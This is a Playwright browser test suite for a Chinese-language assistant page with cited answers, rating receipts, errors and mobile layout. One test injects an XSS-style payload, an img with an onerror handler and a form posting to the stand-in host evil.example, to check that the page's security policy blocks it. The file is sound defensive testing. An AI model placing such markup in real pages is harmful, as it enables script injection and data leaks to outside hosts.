"""The real page in a real Chromium."""

import re

import pytest
from standin import HOSTILE, QUOTES

pytestmark = pytest.mark.browser


class Visitor:
    """One person at one page, and what the page did behind their back."""

    def __init__(self, page, address):
        self.page, self.address = page, address
        self.requests, self.errors, self.answers = [], [], 0
        page.set_default_timeout(10_000)
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.goto(address)

    def ask(self, question):
        self.page.locator("#question textarea").fill(question)
        self.page.keyboard.press("Enter")
        return self.newest()

    def newest(self):
        """The answer to what was asked last, once it is complete."""
        answer = self.page.locator("#conversation .answer.complete").nth(self.answers)
        answer.wait_for()
        self.answers += 1
        return answer

    def strangers(self):
        return [url for url in self.requests if not url.startswith((self.address, "data:", "blob:"))]

    def unharmed(self):
        return self.page.evaluate("window.hacked") is None and not self.strangers() and not self.errors


@pytest.fixture
def context(chromium):
    context = chromium.new_context(viewport={"width": 1280, "height": 860}, locale="zh-CN")
    yield context
    context.close()


@pytest.fixture
def visitor(context, standin_address) -> Visitor:
    return Visitor(context.new_page(), standin_address)


def marked(panel) -> str:
    return "".join(panel.locator("mark").all_text_contents())


def test_every_citation_of_the_real_assistant_opens_at_its_words(context, address, assistant):
    visitor, history, opened = Visitor(context.new_page(), address), (), 0
    for question in assistant.examples():
        answer, history = assistant.converse(question, history)
        chips = visitor.ask(question).locator(".source-chip")
        assert chips.count() == len(answer.citations)
        for position, citation in enumerate(answer.citations):
            chips.nth(position).click()
            panel = visitor.page.locator(".passage:popover-open")
            assert marked(panel) == citation.quote
            assert citation.confidence.label in panel.inner_text()
            panel.locator(".close").click()
            opened += 1
    assert opened >= len(assistant.examples())
    assert visitor.unharmed()


def test_level_comes_with_the_receipt_of_the_real_tool(context, address):
    answer = Visitor(context.new_page(), address).ask("92.5 分是几星？")
    assert "四星级" in answer.locator(".body").inner_text()
    assert "星级由评分工具计算" in answer.inner_text()
    answer.locator(".receipt > summary").click()
    assert "90 ≤ 92.5 < 95" in answer.locator(".trace").inner_text()


def test_answer_streams_and_a_citation_opens_at_its_words(visitor):
    visitor.page.evaluate(
        """window.seen = new Set();
        const length = () => document.querySelector('.answer .body')?.textContent.length;
        new MutationObserver(() => window.seen.add(length()))
          .observe(document.body, { childList: true, subtree: true, characterData: true })"""
    )
    answer = visitor.ask("申请认证要准备哪些材料？")
    answer.locator(".citations").wait_for()
    assert visitor.page.evaluate("[...window.seen].filter(Boolean).length") >= 3

    for chip, quote in ((".body .chip", QUOTES[0]), (".source-chip >> nth=1", QUOTES[1])):
        answer.locator(chip).first.click()
        panel = visitor.page.locator(".passage:popover-open")
        assert marked(panel) == quote
        assert panel.locator("mark:visible").count() > 0
        assert panel.locator("mark:visible").first.is_visible()
        panel.locator(".close").click()
        assert visitor.page.locator(".passage:popover-open").count() == 0
    assert not visitor.strangers()
    assert not visitor.errors


def test_example_and_follow_up_are_asked_by_a_click(visitor):
    visitor.page.get_by_text("92.5 分是几星？").click()
    assert "四星级" in visitor.newest().inner_text()
    visitor.page.get_by_text("95 分呢？").click()
    visitor.newest()
    assert visitor.page.locator("#conversation .question").last.inner_text() == "95 分呢？"


def test_receipt_unfolds(visitor):
    answer = visitor.ask("92.5 分是几星？")
    assert "星级由评分工具计算" in answer.inner_text()
    answer.locator(".receipt > summary").click()
    assert "90 ≤ 92.5 < 95：四星级" in answer.locator(".trace").inner_text()


def test_hostile_words_do_nothing(visitor):
    answer = visitor.ask(f"材料 {HOSTILE}")
    assert HOSTILE in visitor.page.locator("#conversation .question").last.text_content()
    answer.locator(".source-chip").nth(1).click()
    panel = visitor.page.locator(".passage:popover-open")
    assert panel.text_content().count(HOSTILE) == 3
    visitor.page.wait_for_timeout(300)
    assert visitor.page.locator("#conversation :is(img, form, iframe, script)").count() == 0
    assert visitor.unharmed()


def test_policy_stops_what_escaping_would_miss(visitor):
    visitor.page.evaluate(
        """document.body.insertAdjacentHTML('beforeend',
          '<img src="http://evil.example/i.png" onerror="window.hacked=1"><form id=f action="http://evil.example/"></form>');
        document.getElementById('f').submit()"""
    )
    visitor.page.wait_for_timeout(300)
    assert visitor.page.evaluate("window.hacked") is None
    assert visitor.page.url.startswith(visitor.address)


def test_errors_are_one_line(visitor, caplog):
    assert visitor.ask(" ").inner_text().startswith("问题是空的")
    assert visitor.page.locator("#conversation .question").count() == 0
    assert "程序出了意外" in visitor.ask("意外 秘密内容").inner_text()
    assert "RuntimeError" in caplog.text
    assert "秘密内容" not in caplog.text


def test_refusal_and_understanding_are_told(visitor):
    assert "资料未能回答" in visitor.ask("明天天气？").inner_text()
    assert "理解为：申请材料有几项？" in visitor.ask("上一句呢？").inner_text()


def test_clearing_forgets(visitor):
    visitor.ask("材料")
    visitor.page.locator("#clear").click()
    visitor.page.locator(".introduction").wait_for()
    visitor.answers = 0
    assert "这是第 1 问" in visitor.ask("上一句").inner_text()


def test_conversations_are_private(visitor, chromium):
    visitor.ask("上一句")
    context = chromium.new_context()
    other = Visitor(context.new_page(), visitor.address)
    other.page.locator(".introduction").wait_for()
    assert "这是第 1 问" in other.ask("上一句").inner_text()
    assert other.page.locator("#conversation .question").count() == 1
    assert "这是第 2 问" in visitor.ask("上一句").inner_text()
    context.close()


def test_phone_scrolls_only_down(chromium, standin_address):
    context = chromium.new_context(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
    phone = Visitor(context.new_page(), standin_address)
    width = "document.documentElement.scrollWidth"
    phone.page.locator(".introduction").wait_for()
    assert phone.page.evaluate(width) == 390
    answer = phone.ask("材料")
    answer.locator(".chip").first.tap()
    box = phone.page.locator(".passage:popover-open").bounding_box()
    assert phone.page.evaluate(width) == 390
    assert (box["x"], box["width"]) == (0, 390)
    assert box["y"] > 100
    context.close()


def test_page_is_in_chinese(visitor):
    visitor.page.locator(".introduction").wait_for()
    assert visitor.page.evaluate("document.documentElement.lang") == "zh-CN"
    assert not re.search(r"[A-Za-z]{4,}", visitor.page.locator("body").inner_text())
